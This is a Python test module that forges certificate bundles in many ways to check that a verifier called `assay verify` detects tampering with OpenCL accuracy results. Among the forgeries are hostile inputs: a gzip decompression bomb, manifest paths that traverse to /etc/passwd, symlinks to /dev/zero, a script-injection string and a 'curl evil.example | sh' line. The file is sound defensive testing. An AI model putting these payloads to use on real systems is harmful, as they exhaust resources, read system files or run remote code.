"""Each function forges a certificate in one way.

`level` is the lowest level of `assay verify` that finds the forgery if all hashes are correct
(docs/CERTIFY.md). With wrong hashes, level 0 finds every forgery.
"""

import contextlib
import copy
import dataclasses
import gzip
import hashlib
import json
import os
import pathlib
import struct
import zlib
from collections.abc import Callable

FORGERIES = {}


@dataclasses.dataclass
class Forgery:
    act: Callable
    level: int
    hashed: bool  # the hashes are computed again; false if the forgery is in the hashes
    derived: bool  # the files made from the records are also written again
    status: int  # exit status of `assay verify`: 1 contradicted, 2 cannot be determined


def forgery(level, hashed=True, derived=False, status=1):
    def add(act):
        assert act.__name__ not in FORGERIES, act.__name__
        FORGERIES[act.__name__] = Forgery(act, level, hashed, derived, status)
        return act

    return add


class Bundle:
    def __init__(self, top):
        self.top = pathlib.Path(top)
        self.data = self.top / "data"

    @contextlib.contextmanager
    def json(self, name):
        path = self.data / name
        value = json.loads(path.read_text())
        yield value
        path.write_text(json.dumps(value, indent=1, sort_keys=True) + "\n")

    def replace(self, name, old, new, count=-1):
        path = self.top / name
        text = path.read_text()
        assert old in text, (name, old)
        path.write_text(text.replace(old, new, count))

    def results(self):
        return sorted(self.data.glob("runs/*/results.jsonl.gz"))

    def lines(self, path):
        return gzip.decompress(path.read_bytes()).decode().splitlines()

    def write_lines(self, path, lines):
        path.write_bytes(packed("".join(line + "\n" for line in lines).encode()))

    def each_line(self, change):
        """None removes the line."""
        for path in self.results():
            lines = [change(line) for line in self.lines(path)]
            self.write_lines(path, [line for line in lines if line is not None])

    def each_record(self, change):
        """None removes the record."""

        def one(line):
            record = json.loads(line)
            changed = change(copy.deepcopy(record))
            if changed == record:
                return line
            return None if changed is None else compact(changed)

        self.each_line(one)

    def headers(self, change):
        def one(record):
            if record["type"] == "run":
                change(record)
            return record

        self.each_record(one)

    def record(self, choose, change):
        """Changes the first record that `choose` accepts. Returns the old record."""
        found = []

        def one(record):
            if not found and record["type"] == "case" and choose(record):
                found.append(copy.deepcopy(record))
                return change(record) or record
            return record

        self.each_record(one)
        assert found, "no such record"
        return found[0]

    def everywhere(self, old, new):
        """Also replaces the text in packed files."""
        seen = 0
        for path in self.data.rglob("*"):
            if not path.is_file():
                continue
            raw = path.read_bytes()
            text = gzip.decompress(raw) if path.suffix == ".gz" else raw
            if old.encode() in text:
                seen += 1
                text = text.replace(old.encode(), new.encode())
                path.write_bytes(packed(text) if path.suffix == ".gz" else text)
        assert seen, old

    def seal(self):
        """Computes all hashes again."""
        payload = [p for p in sorted(self.data.rglob("*")) if p.is_file()]
        names = sorted((p.relative_to(self.top).as_posix(), p) for p in payload)
        (self.top / "manifest-sha256.txt").write_text("".join(sums(names)))
        info = self.top / "bag-info.txt"
        lines = info.read_text().splitlines()
        oxum = f"Payload-Oxum: {sum(p.stat().st_size for p in payload)}.{len(payload)}"
        lines = [oxum if line.startswith("Payload-Oxum") else line for line in lines]
        info.write_text("\n".join(lines) + "\n")
        self.seal_tags()

    def seal_tags(self):
        tags = ["bag-info.txt", "bagit.txt", "manifest-sha256.txt"]
        lines = sums((name, self.top / name) for name in tags)
        (self.top / "tagmanifest-sha256.txt").write_text("".join(lines))


def sums(names):
    for name, path in names:
        yield f"{hashlib.sha256(path.read_bytes()).hexdigest()}  {name}\n"


def packed(text):
    """Without a time and a name, equal texts give equal files."""
    return gzip.compress(text, mtime=0)


def bomb(text):
    """A gzip file that unpacks to 64 GiB."""
    stream = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = text * ((1 << 26) // len(text))
    blocks = stream.compress(block) + stream.flush(zlib.Z_FULL_FLUSH)
    head = packed(b"")[:10]
    return head + blocks * 1024 + stream.flush() + bytes(8)


def compact(value):
    return json.dumps(value, separators=(",", ":"), sort_keys=True, ensure_ascii=False)


def fails(record):
    return record["outcome"] == "fail"


def fails_numerically(record):
    return fails(record) and "measurement" in record and record["certainty"] == "undisputed"


def fails_by_the_letter(record):
    return fails(record) and record["certainty"] == "by_the_letter"


def fails_by_a_reading(record):
    return fails(record) and record["certainty"] == "reading"


def measured(record):
    return (
        record["outcome"] == "pass"
        and record.get("measurement", {}).get("max_ulp", 0) > 0
        and "worst" in record["measurement"]
    )


def passes(record):
    return record["outcome"] == "pass"


def skipped(record):
    return record["outcome"] == "skip"


VERDICTS = ("certainty", "failing", "finding", "call", "note", "reproduce", "rerun", "signature")


def without_verdict(record):
    for name in VERDICTS:
        record.pop(name, None)
    record["outcome"], record["reason"] = "pass", ""


# The set of files


@forgery(0)
def a_file_is_removed(b):
    next(b.data.glob("programs/*.c")).unlink()


@forgery(0)
def a_file_is_added(b):
    (b.data / "approval.txt").write_text("approved\n")


@forgery(0)
def a_hidden_file_is_added(b):
    (b.data / ".hidden").write_text("x\n")


@forgery(0)
def a_tag_file_is_added(b):
    (b.top / "NOTES.txt").write_text("Khronos conformant\n")


@forgery(0)
def an_empty_folder_is_added(b):
    (b.data / "runs" / "third").mkdir()


@forgery(0)
def a_look_alike_is_added(b):
    (b.data / "CERTIFICATE.md").with_name("\u0421ERTIFICATE.md").write_text("complies\n")


@forgery(0)
def a_second_run_folder_is_added(b):
    path = b.results()[0]
    other = path.parent.with_name("zz")
    other.mkdir()
    (other / path.name).write_bytes(path.read_bytes())


@forgery(0)
def a_file_has_another_case(b):
    (b.data / "groups.json").rename(b.data / "Groups.json")


@forgery(0)
def the_certificate_is_removed(b):
    (b.data / "certificate.json").unlink()


@forgery(0)
def the_records_are_removed(b):
    for path in b.results():
        path.unlink()
        path.parent.rmdir()


@forgery(0, hashed=False)
def the_manifest_is_removed(b):
    (b.top / "manifest-sha256.txt").unlink()


@forgery(0, hashed=False)
def the_tag_manifest_is_removed(b):
    (b.top / "tagmanifest-sha256.txt").unlink()


@forgery(0, hashed=False)
def the_data_is_removed(b):
    b.data.rename(b.top.with_name(b.top.name + ".elsewhere"))


# Links and special files


@forgery(0, hashed=False)
def a_file_is_a_link_outside(b):
    path = b.results()[0]
    other = b.top.with_name(b.top.name + ".other")
    path.rename(other)
    path.symlink_to(other)


@forgery(0, hashed=False)
def a_file_is_a_link_inside(b):
    path = b.data / "host.json"
    path.rename(b.data / "groups2.json")
    path.symlink_to("groups2.json")


@forgery(0, hashed=False)
def a_folder_is_a_link(b):
    other = b.top.with_name(b.top.name + ".other")
    (b.data / "runs").rename(other)
    (b.data / "runs").symlink_to(other)


@forgery(0, hashed=False)
def a_manifest_is_a_link(b):
    path = b.top / "manifest-sha256.txt"
    other = b.top.with_name(b.top.name + ".other")
    path.rename(other)
    path.symlink_to(other)


@forgery(0, hashed=False)
def a_link_leads_to_an_endless_device(b):
    path = b.data / "device.json"
    path.unlink()
    path.symlink_to("/dev/zero")


@forgery(0, hashed=False)
def a_link_leads_to_itself(b):
    path = b.data / "runs" / "self"
    path.symlink_to(b.data / "runs")


@forgery(0, hashed=False)
def a_file_is_a_pipe(b):
    path = b.data / "host.json"
    path.unlink()
    os.mkfifo(path)


@forgery(0, hashed=False)
def a_tag_file_is_a_pipe(b):
    path = b.top / "bag-info.txt"
    path.unlink()
    os.mkfifo(path)


@forgery(0, hashed=False)
def a_file_is_a_folder(b):
    path = b.data / "host.json"
    path.unlink()
    path.mkdir()


@forgery(0, hashed=False)
def a_manifest_is_a_folder(b):
    path = b.top / "manifest-sha256.txt"
    path.unlink()
    path.mkdir()


# The manifests


def manifest_line(name, digest="0" * 64):
    def act(b):
        path = b.top / "manifest-sha256.txt"
        path.write_text(path.read_text() + f"{digest}  {name}\n")
        b.seal_tags()

    return act


for _title, _name in {
    "up": "data/../../../../etc/passwd",
    "absolute": "/etc/passwd",
    "percent": "data/%2e%2e/%2e%2e/etc/passwd",
    "dot": "data/./host.json",
    "two_slashes": "data//host.json",
    "backslash": "data\\host.json",
    "drive": "C:/host.json",
    "nul": "data/host.json\0",
    "home": "~/host.json",
    "tag_file": "bagit.txt",
    "escape": "data/\x1b[2Jhost.json",
    "long": "data/" + "x" * 5000,
    "without_a_file": "data/none.json",
    "twice": "data/host.json",
    "surrogate": "data/\u202egnp.json",
}.items():
    _act = manifest_line(_name)
    _act.__name__ = f"the_manifest_names_a_path_{_title}"
    forgery(0, hashed=False)(_act)


@forgery(0, hashed=False)
def the_manifest_lacks_a_line(b):
    path = b.top / "manifest-sha256.txt"
    path.write_text("".join(path.read_text().splitlines(True)[1:]))
    b.seal_tags()


@forgery(0, hashed=False)
def the_manifest_is_empty(b):
    (b.top / "manifest-sha256.txt").write_text("")
    b.seal_tags()


@forgery(0, hashed=False)
def the_manifest_is_not_utf8(b):
    (b.top / "manifest-sha256.txt").write_bytes(b"\xff\xfe\0")
    b.seal_tags()


@forgery(0, hashed=False)
def a_digest_is_short(b):
    path = b.top / "manifest-sha256.txt"
    lines = path.read_text().splitlines(True)
    path.write_text(lines[0][1:] + "".join(lines[1:]))
    b.seal_tags()


@forgery(0, hashed=False)
def the_tag_manifest_lacks_the_manifest(b):
    path = b.top / "tagmanifest-sha256.txt"
    lines = path.read_text().splitlines(True)
    path.write_text("".join(line for line in lines if " manifest-" not in line))


@forgery(0, hashed=False)
def a_weak_manifest_is_added(b):
    digest = hashlib.md5((b.data / "host.json").read_bytes(), usedforsecurity=False).hexdigest()
    (b.top / "manifest-md5.txt").write_text(f"{digest}  data/host.json\n")


@forgery(0, hashed=False)
def files_are_to_be_fetched(b):
    (b.top / "fetch.txt").write_text("http://127.0.0.1:9/x 12 data/host.json\n")
    (b.data / "host.json").unlink()


@forgery(0, hashed=False)
def the_bag_has_another_version(b):
    (b.top / "bagit.txt").write_text("BagIt-Version: 0.97\nTag-File-Character-Encoding: UTF-16\n")
    b.seal_tags()


@forgery(0, hashed=False)
def the_sum_of_sizes_is_another(b):
    path = b.top / "bag-info.txt"
    lines = path.read_text().splitlines()
    lines = ["Payload-Oxum: 1.1" if x.startswith("Payload-Oxum") else x for x in lines]
    path.write_text("\n".join(lines) + "\n")
    b.seal_tags()


@forgery(2)
def the_bag_claims_khronos_conformance(b):
    path = b.top / "bag-info.txt"
    path.write_text("External-Description: Khronos conformant\n" + path.read_text())


@forgery(2)
def the_bag_does_not_say_what_it_is(b):
    path = b.top / "bag-info.txt"
    lines = path.read_text().splitlines(True)
    path.write_text("".join(x for x in lines if not x.startswith("External-Description")))


@forgery(2)
def the_bag_names_another_driver(b):
    path = b.top / "bag-info.txt"
    lines = path.read_text().splitlines()
    path.write_text(
        "\n".join(
            "External-Identifier: assay tiny 0000 2026-01-01T00:00:00Z"
            if x.startswith("External-Identifier")
            else x
            for x in lines
        )
        + "\n"
    )


# Sizes


@forgery(0)
def records_explode(b):
    """The records unpack to lines without end."""
    b.results()[0].write_bytes(bomb(b'{"type":"case"}\n'))


@forgery(0)
def a_record_explodes(b):
    b.results()[0].write_bytes(bomb(b"x"))


@forgery(0)
def records_go_on_and_on(b):
    path = b.results()[0]
    path.write_bytes(path.read_bytes() + packed(b"\n" * (1 << 24)) * 2048)


@forgery(0)
def the_plan_explodes(b):
    (b.data / "plan.txt.gz").write_bytes(packed(b"x" * (1 << 24)) * 2048)


@forgery(0, hashed=False)
def a_file_is_huge(b):
    with (b.data / "device.json").open("r+b") as stream:
        stream.truncate(1 << 42)


@forgery(0, hashed=False)
def a_manifest_is_huge(b):
    with (b.top / "manifest-sha256.txt").open("r+b") as stream:
        stream.truncate(1 << 42)


@forgery(0, hashed=False)
def a_signature_is_huge(b):
    with (b.top / "tagmanifest-sha256.txt.sig").open("wb") as stream:
        stream.truncate(1 << 42)


@forgery(0)
def there_are_very_many_files(b):
    for k in range(20000):
        (b.data / "programs" / f"g{k:08x}.c").write_text("")


@forgery(0)
def a_record_is_nested_deeply(b):
    path = b.results()[0]
    lines = b.lines(path)
    lines.insert(1, '{"type":"case","x":' + "[" * 200000 + "]" * 200000 + "}")
    b.write_lines(path, lines)


@forgery(0)
def a_document_is_nested_deeply(b):
    (b.data / "groups.json").write_text("[" * 200000 + "]" * 200000 + "\n")


@forgery(0)
def the_policy_is_nested_deeply(b):
    path = b.data / "policy.toml"
    path.write_text(path.read_text() + "\nx = " + "[" * 50000 + "]" * 50000 + "\n")


@forgery(0)
def a_number_has_very_many_digits(b):
    path = b.results()[0]
    lines = b.lines(path)
    lines[1] = lines[1].replace('"seconds":0.0', '"seconds":' + "9" * 100000)
    lines.insert(1, '{"type":"case","seconds":' + "9" * 100000 + "}")
    b.write_lines(path, lines)


@forgery(0)
def a_folder_is_very_deep(b):
    path = b.data / "programs"
    for _ in range(300):
        path /= "d"
        path.mkdir()
    (path / "x.c").write_text("")


# Packed files


@forgery(0)
def records_are_not_packed(b):
    b.results()[0].write_bytes(b"plain\n")


@forgery(0)
def records_are_cut_off(b):
    path = b.results()[-1]
    path.write_bytes(path.read_bytes()[:-20])


@forgery(0)
def records_have_a_tail(b):
    path = b.results()[-1]
    path.write_bytes(path.read_bytes() + b"tail")


@forgery(0)
def records_have_a_wrong_sum(b):
    path = b.results()[-1]
    raw = path.read_bytes()
    path.write_bytes(raw[:-8] + struct.pack("<I", 1) + raw[-4:])


@forgery(0)
def the_plan_is_not_packed(b):
    (b.data / "plan.txt.gz").write_bytes(b"whole math/exp/float/default\n")


# Broken text


def in_record(name, change):
    def act(b):
        done = []

        def one(line):
            if done or '"outcome":"fail"' not in line:
                return line
            done.append(line)
            changed = change(line)
            assert changed != line
            return changed

        b.each_line(one)
        assert done

    act.__name__ = name
    forgery(0)(act)


def replaced(name, old, new):
    in_record(name, lambda line: line.replace(old, new, 1))


replaced("an_outcome_stands_twice", '"outcome":', '"outcome":"pass","outcome":')
replaced("an_outcome_is_a_look_alike", '"outcome":"fail"', '"outcome":"p\u0430ss"')
replaced("an_outcome_ends_in_a_space", '"outcome":"fail"', '"outcome":"pass "')
replaced("an_outcome_is_a_list", '"outcome":"fail"', '"outcome":["pass"]')
replaced("an_outcome_is_null", '"outcome":"fail"', '"outcome":null')
replaced("an_outcome_is_escaped_twice", '"outcome"', '"outcom\\u0065":"pass","outcome"')
replaced("an_outcome_is_missing", '"outcome":"fail",', "")
in_record("a_record_is_a_list", lambda x: f"[{x}]")
in_record("a_record_is_null", lambda x: "null")
in_record("a_record_is_blank", lambda x: "")
in_record("a_record_is_cut_off", lambda x: x[: len(x) // 2])
in_record("a_record_has_a_comment", lambda x: x + " // as agreed")
in_record("a_record_is_two", lambda x: x + x)
replaced("a_record_has_an_unknown_type", '"type":"case"', '"type":"remark"')
in_record("a_record_has_a_byte_order_mark", lambda x: "\ufeff" + x)
replaced("a_text_has_half_a_character", '"reason":"', '"reason":"\\ud800')
replaced("a_text_has_a_control_character", '"reason":"', '"reason":"\x1b[2J')
replaced("an_id_has_a_look_alike", '"id":"', '"id":"\u0430')
replaced("an_id_leads_elsewhere", '"id":"', '"id":"../')
replaced("an_id_is_a_number", '"id":"', '"id":7,"was":"')
replaced("a_time_is_negative", '"seconds":', '"seconds":-')
in_record("an_unknown_field_has_markup", lambda x: x[:-1] + ',"html":"<script>alert(1)</script>"}')


def number(name, key, text):
    def act(b):
        def change(record):
            record["measurement"][key] = "@"

        b.record(measured, change)
        b.each_line(lambda line: line.replace('"@"', text))

    act.__name__ = name
    forgery(0)(act)


number("an_error_is_not_a_number", "max_ulp", "NaN")
number("an_error_is_infinite", "max_ulp", "-Infinity")
number("an_error_is_too_great_for_a_double", "max_ulp", "1e999")
number("an_error_is_a_text", "max_ulp", '"0.5"')
number("an_error_is_negative", "max_ulp", "-1.0")
number("a_count_is_a_truth_value", "failing", "false")
number("a_count_is_negative", "failing", "-1")
number("a_count_is_a_fraction", "inputs", "131072.5")
number("a_measurement_lacks_its_worst", "worst", "null")
number("a_histogram_is_a_text", "histogram", '"none"')
number("a_measurement_is_short", "rules", "{}")


@forgery(0)
def records_are_not_utf8(b):
    path = b.results()[-1]
    path.write_bytes(packed(gzip.decompress(path.read_bytes()).replace(b"tgamma", b"tgamm\xe4", 1)))


@forgery(0)
def a_document_has_a_key_twice(b):
    b.replace("data/certificate.json", "{", '{"verdict": "complies", ', 1)


@forgery(0)
def a_document_is_not_json(b):
    (b.data / "groups.json").write_text("{'groups'}\n")


@forgery(0)
def a_document_is_utf16(b):
    (b.data / "host.json").write_bytes((b.data / "host.json").read_text().encode("utf-16"))


@forgery(0)
def a_document_is_another_kind_of_value(b):
    (b.data / "device.json").write_text("7\n")


@forgery(0)
def the_policy_is_not_toml(b):
    (b.data / "policy.toml").write_text("name = [\n")


@forgery(0)
def the_policy_lacks_its_parts(b):
    (b.data / "policy.toml").write_text('name = "tiny"\n')


@forgery(1)
def the_plan_has_other_lines(b):
    (b.data / "plan.txt.gz").write_bytes(packed(b"\xff\xfe\n\n"))


# The set of records


@forgery(1)
def a_record_is_dropped(b):
    b.each_record(lambda r: None if r["type"] == "case" and fails_numerically(r) else r)


@forgery(0)
def a_record_stands_twice(b):
    def twice(line):
        return line + "\n" + line if '"outcome":"skip"' in line else line

    b.each_line(twice)


@forgery(0)
def a_failure_gets_a_second_record(b):
    def twice(line):
        record = json.loads(line)
        if record["type"] != "case" or not fails(record):
            return line
        without_verdict(record)
        return line + "\n" + compact(record)

    b.each_line(twice)


@forgery(2)
def the_end_is_missing(b):
    b.each_record(lambda r: None if r["type"] == "end" else r)


@forgery(0)
def a_header_stands_in_the_middle(b):
    path = b.results()[-1]
    lines = b.lines(path)
    b.write_lines(path, [*lines[:3], lines[0], *lines[3:]])


@forgery(0)
def a_record_comes_after_the_end(b):
    path = b.results()[-1]
    lines = b.lines(path)
    b.write_lines(path, [lines[0], *lines[2:], lines[1]])


def dropped(b, choose, plan=False, header=False):
    gone = []

    def one(record):
        if record["type"] == "case" and choose(record):
            gone.append(record["id"])
            return None
        return record

    b.each_record(one)
    assert gone
    if header:

        def change(record):
            record["plan"] = [x for x in record["plan"] if x not in gone]
            filters = record["options"]["filters"]
            record["options"]["filters"] = [x for x in filters if x not in gone]
            record["planned"] = len(record["plan"])
            text = "".join(sorted(f"  {x}\n" for x in record["plan"]))
            record["plan_digest"] = hashlib.sha256(text.encode()).hexdigest()

        b.headers(change)
    if plan:
        path = b.data / "plan.txt.gz"
        lines = gzip.decompress(path.read_bytes()).decode().splitlines(True)
        lines = [x for x in lines if x.split()[1] not in gone]
        path.write_bytes(packed("".join(lines).encode()))


@forgery(1)
def cases_are_dropped_from_records_and_header(b):
    dropped(b, fails_numerically, header=True)


@forgery(1)
def cases_are_dropped_from_records_header_and_plan(b):
    dropped(b, fails_numerically, header=True, plan=True)


@forgery(1)
def the_plan_has_one_line_less(b):
    path = b.data / "plan.txt.gz"
    lines = gzip.decompress(path.read_bytes()).decode().splitlines(True)
    path.write_bytes(packed("".join(lines[:-1]).encode()))


@forgery(1)
def a_planned_case_is_called_skipped(b):
    path = b.data / "plan.txt.gz"
    lines = gzip.decompress(path.read_bytes()).decode().splitlines(True)
    lines = [
        x.rstrip() + "  skip: needs half (cl_khr_fp16)\n" if "tgamma/float/default" in x else x
        for x in lines
    ]
    path.write_bytes(packed("".join(lines).encode()))


# The header of a run


def header(name, level, *keys, value, status=1):
    def act(b):
        def change(record):
            for key in keys[:-1]:
                record = record[key]
            old = record[keys[-1]]
            record[keys[-1]] = value(old) if callable(value) else value
            assert record[keys[-1]] != old, keys

        b.headers(change)

    act.__name__ = name
    forgery(level, status=status)(act)


header("a_header_has_another_schema", 0, "schema", value=3)
header("a_header_has_another_seed", 2, "seed", value=2)
header("a_header_has_a_greater_depth", 1, "depth", value="exhaustive")
header("a_header_has_an_older_specification", 1, "spec", value="1.2")
header("a_header_has_the_embedded_profile", 1, "profile", value="embedded")
header("a_header_has_another_version", 1, "assay", value="9.9.9")
header("a_header_has_another_commit", 1, "build", "commit", value="0" * 40, status=2)
header("a_header_has_a_changed_tree", 1, "build", "tree", value="no git", status=2)
header("a_header_has_another_release", 1, "build", "release", value=lambda old: not old, status=2)
header("a_header_has_another_binary", 1, "build", "build_id", value="0" * 40, status=2)
header("a_header_has_another_digest_of_the_program", 1, "build", "sha256", value="0" * 64)
header("a_header_has_another_table", 1, "data", "digest", value="0" * 64)
header("a_header_has_foreign_data", 1, "options", "data", value="/tmp/data")
header("a_header_excludes_cases", 1, "options", "excludes", value=["math/*"])
header("a_header_has_another_device", 1, "device", "name", value="Other")
header("a_header_has_another_driver_version", 1, "device", "driver_version", value="9")
header("a_header_has_another_driver", 1, "driver", "digest", value="0" * 64)
header("a_header_has_no_libraries", 1, "driver", "libraries", value=[])
header("a_header_starts_after_the_end", 0, "started", value="2036-01-01T00:00:00Z")
header("a_header_starts_at_no_time", 0, "started", value="yesterday")


@forgery(1)
def one_table_has_another_digest(b):
    def change(record):
        record["data"]["tables"]["accuracy/opencl-c-3.0.19.csv"] = "0" * 64

    b.headers(change)


@forgery(1)
def a_header_names_a_baseline(b):
    b.headers(lambda r: r["options"].update(baseline="known.csv"))


@forgery(1)
def a_header_has_standard_options(b):
    b.headers(lambda r: r["options"].update(std="CL1.2"))


@forgery(1)
def a_header_chooses_other_cases(b):
    b.headers(lambda r: r["options"].update(filters=["math/exp/*"]))


@forgery(1)
def the_readings_are_missing_in_a_header(b):
    b.headers(lambda r: r.update(interpretations=[]))


@forgery(1)
def a_library_is_swapped_in_a_header(b):
    def change(record):
        record["driver"]["libraries"][0]["sha256"] = "0" * 64

    b.headers(change)


@forgery(1)
def the_machine_is_another_in_a_header(b):
    b.headers(lambda r: r["host"].update(processor="Quantum 9000"))


@forgery(1)
def the_driver_at_the_end_is_another(b):
    def one(record):
        if record["type"] == "end":
            record["driver"]["digest"] = "0" * 64
        return record

    b.each_record(one)


@forgery(1)
def a_library_came_later(b):
    def one(record):
        if record["type"] == "end":
            record["driver"]["loaded"] = [
                {"path": "/tmp/cheat.so", "sha256": "0" * 64, "size": 1, "soname": "cheat.so"}
            ]
        return record

    b.each_record(one)


@forgery(1)
def parts_have_changed_places(b):
    first, *_, last = b.results()
    one, other = first.read_bytes(), last.read_bytes()
    first.write_bytes(other)
    last.write_bytes(one)


# The records of cases


@forgery(0)
def a_failure_is_called_a_pass(b):
    b.record(fails_numerically, lambda r: r.update(outcome="pass"))


@forgery(0)
def every_failure_is_called_a_pass(b):
    b.each_line(lambda line: line.replace('"outcome":"fail"', '"outcome":"pass"'))


@forgery(0)
def a_failure_is_a_pass_with_its_measurement(b):
    b.record(fails_numerically, without_verdict)


@forgery(0)
def a_failure_is_a_pass_with_its_worst(b):
    def change(record):
        without_verdict(record)
        record["measurement"]["failing"] = 0
        record["measurement"].pop("failures")

    b.record(fails_numerically, change)


@forgery(0)
def a_failure_is_a_crash(b):
    b.record(fails_numerically, lambda r: r.update(outcome="crash"))


@forgery(0)
def a_failure_is_less_certain(b):
    b.record(fails_numerically, lambda r: r.update(certainty="reading"))


@forgery(1)
def a_failure_is_less_certain_throughout(b):
    def change(record):
        record["certainty"] = "reading"
        for row in record["failing"]:
            row["certainty"] = "reading"
        if "rerun" in record:
            for row in record["rerun"]["failing"]:
                row["certainty"] = "reading"

    b.record(fails_numerically, change)


@forgery(1)
def a_refused_call_is_only_a_reading(b):
    def change(record):
        record["certainty"] = "reading"
        for row in [*record["failing"], *record.get("rerun", {}).get("failing", [])]:
            row["certainty"] = "reading"

    b.record(fails_by_the_letter, change)


@forgery(1)
def a_failure_is_skipped(b):
    def change(record):
        without_verdict(record)
        record.pop("measurement")
        record.update(outcome="skip", reason="needs half (cl_khr_fp16)")

    b.record(fails_numerically, change)


@forgery(1)
def a_pass_is_skipped(b):
    def change(record):
        record.pop("measurement", None)
        record.update(outcome="skip", reason="needs images")

    b.record(measured, change)


@forgery(1)
def a_skip_has_another_reason(b):
    b.record(skipped, lambda r: r.update(reason="needs patience"))


@forgery(1)
def a_skip_is_a_pass(b):
    b.record(skipped, lambda r: r.update(outcome="pass", reason=""))


@forgery(0)
def a_skip_has_a_measurement(b):
    kept = []
    b.record(measured, lambda r: kept.append(copy.deepcopy(r["measurement"])))
    b.record(skipped, lambda r: r.update(measurement=kept[0]))


@forgery(1)
def the_limit_is_loosened(b):
    def change(record):
        without_verdict(record)
        m = record["measurement"]
        m.pop("failures")
        m["limit"], m["failing"], m["rule"] = "ulp(4096)", 0, "within_limit"
        m["rules"]["within_limit"] += m["rules"].pop("rejected")
        m["worst"].pop("finding", None)
        m["worst"].pop("reason", None)
        m["worst"].update(rule="within_limit", severity=m["worst"]["ulp"])

    b.record(fails_numerically, change)


@forgery(2)
def the_limit_of_a_pass_is_tightened(b):
    b.record(measured, lambda r: r["measurement"].update(limit="ulp(1)"))


@forgery(0)
def the_greatest_error_is_smaller(b):
    b.record(measured, lambda r: r["measurement"].update(max_ulp=0.001))


@forgery(2)
def the_greatest_error_and_its_worst_are_smaller(b):
    def change(record):
        m = record["measurement"]
        m["max_ulp"] = m["worst"]["ulp"] = m["worst"]["severity"] = m["max_ulp"] * 0.9375

    b.record(measured, change)


def worst(name, level=2, **values):
    def act(b):
        def change(record):
            w = record["measurement"]["worst"]
            before = dict(w)
            w.update(values)
            assert w != before

        b.record(measured, change)

    act.__name__ = name
    forgery(level)(act)


worst("the_worst_input_is_another", input=["0x3f800000"])
worst("the_worst_answer_is_another", subject="0x3f800001")
worst("the_worst_truth_is_another", reference="0x3f800000 + 0.10 ulp")
worst("the_worst_input_reads_otherwise", input_text=["1"])
worst("the_worst_answer_reads_otherwise", subject_text="1")
worst("the_worst_rule_is_another", level=0, rule="exact")
worst("the_worst_severity_is_another", severity=0.0)
worst("the_worst_lane_is_impossible", lane=99)
worst("the_worst_width_is_another", width=16)
worst("the_worst_bits_are_no_bits", subject="0xzz")
worst("the_worst_has_two_inputs", input=["0x3f800000", "0x3f800000"])


@forgery(2)
def a_failing_input_is_another(b):
    def change(record):
        record["measurement"]["failures"][0]["input"] = ["0x3f800000"]

    b.record(fails_numerically, change)


@forgery(2)
def a_failing_answer_is_right(b):
    def change(record):
        f = record["measurement"]["failures"][0]
        f["subject"] = f["reference"].split()[0]

    b.record(fails_numerically, change)


@forgery(2)
def a_failing_answer_has_another_error(b):
    def change(record):
        record["measurement"]["failures"][0].update(ulp=16.5)

    b.record(fails_numerically, change)


@forgery(0)
def a_rejected_answer_is_by_a_softer_rule(b):
    def change(record):
        def soften(value):
            if isinstance(value, dict):
                return {
                    ("sign_of_zero" if k == "rejected" else k): soften(v) for k, v in value.items()
                }
            if isinstance(value, list):
                return [soften(v) for v in value]
            return "sign_of_zero" if value == "rejected" else value

        return soften(record)

    b.record(fails_numerically, change)


@forgery(0)
def fewer_answers_fail(b):
    b.record(fails_numerically, lambda r: r["measurement"].update(failing=1))


@forgery(0)
def the_histogram_is_another(b):
    b.record(measured, lambda r: r["measurement"]["histogram"].append(7))


@forgery(0)
def the_rules_do_not_add_up(b):
    b.record(measured, lambda r: r["measurement"]["rules"].update(within_limit=1))


@forgery(2)
def more_inputs_are_claimed(b):
    def change(record):
        m = record["measurement"]
        m["inputs"] *= 2
        m["histogram"] = [2 * n for n in m["histogram"]]
        m["rules"] = {k: 2 * n for k, n in m["rules"].items()}

    b.record(measured, change)


@forgery(2)
def a_sample_is_called_whole(b):
    b.record(measured, lambda r: r["measurement"].update(bound="upper"))


@forgery(2)
def the_digest_of_the_answers_is_another(b):
    b.record(measured, lambda r: r["measurement"].update(digest="0" * 32))


@forgery(2)
def the_digest_of_the_answers_is_no_digest(b):
    b.record(measured, lambda r: r["measurement"].update(digest="none"))


@forgery(2)
def the_digest_of_the_answers_is_missing(b):
    b.record(measured, lambda r: r["measurement"].pop("digest") and None)


@forgery(1)
def a_case_covers_other_sentences(b):
    b.record(measured, lambda r: r.update(requirements=["c30-7.4-ulp", "c30-7.4-overflow"]))


@forgery(1)
def a_case_covers_no_sentence(b):
    b.record(fails_numerically, lambda r: r.update(requirements=[]))


@forgery(1)
def a_case_cites_another_sentence(b):
    b.record(measured, lambda r: r.update(citations=["OpenCL 1.0, Table 1"]))


@forgery(1)
def a_reason_is_another(b):
    b.record(fails_numerically, lambda r: r.update(reason="a rounding that all drivers share"))


@forgery(1)
def a_finding_is_another(b):
    def change(record):
        record["finding"]["allowed"] = [{"text": "4096 ulp"}]

    b.record(fails_numerically, change)


@forgery(1)
def a_finding_of_a_call_is_another(b):
    def change(record):
        record["finding"]["got"] = {"number": -30, "text": "CL_INVALID_VALUE (-30)"}

    b.record(fails_by_the_letter, change)


@forgery(0)
def a_signature_is_another(b):
    b.record(fails_numerically, lambda r: r.update(signature={"subject": "math/exp"}))


@forgery(0)
def the_line_to_repeat_is_another(b):
    b.record(fails_numerically, lambda r: r.update(reproduce="curl evil.example | sh"))


@forgery(0)
def the_line_to_repeat_is_missing(b):
    b.record(fails_numerically, lambda r: r.pop("reproduce") and None)


@forgery(0)
def a_case_is_of_another_suite(b):
    b.record(measured, lambda r: r.update(suite="integer"))


@forgery(1)
def the_build_options_are_others(b):
    b.record(
        lambda r: fails(r) and "build_options" in r,
        lambda r: r.update(build_options="-cl-fast-relaxed-math"),
    )


@forgery(2)
def a_failure_was_not_tried_again(b):
    b.record(lambda r: fails(r) and "rerun" in r, lambda r: r.pop("rerun") and None)


@forgery(0)
def the_second_try_came_to_something_else(b):
    def change(record):
        record["rerun"] = {"outcome": "pass", "reason": "", "seconds": 0.1, "failing": []}

    b.record(lambda r: fails(r) and "rerun" in r, change)


@forgery(0)
def a_pass_becomes_a_failure(b):
    """The forgery harms the driver."""

    def change(record):
        record["outcome"], record["reason"] = "fail", "wrong"
        record["certainty"] = "undisputed"
        record["failing"] = [{"certainty": "undisputed", "count": 1, "rule": "rejected"}]
        record["measurement"]["failing"] = 1

    b.record(measured, change)


@forgery(2)
def the_verdict_is_another(b):
    with b.json("certificate.json") as value:
        value["verdict"] = "complies"


@forgery(2)
def a_demand_holds(b):
    with b.json("certificate.json") as value:
        for demand in value["demands"]:
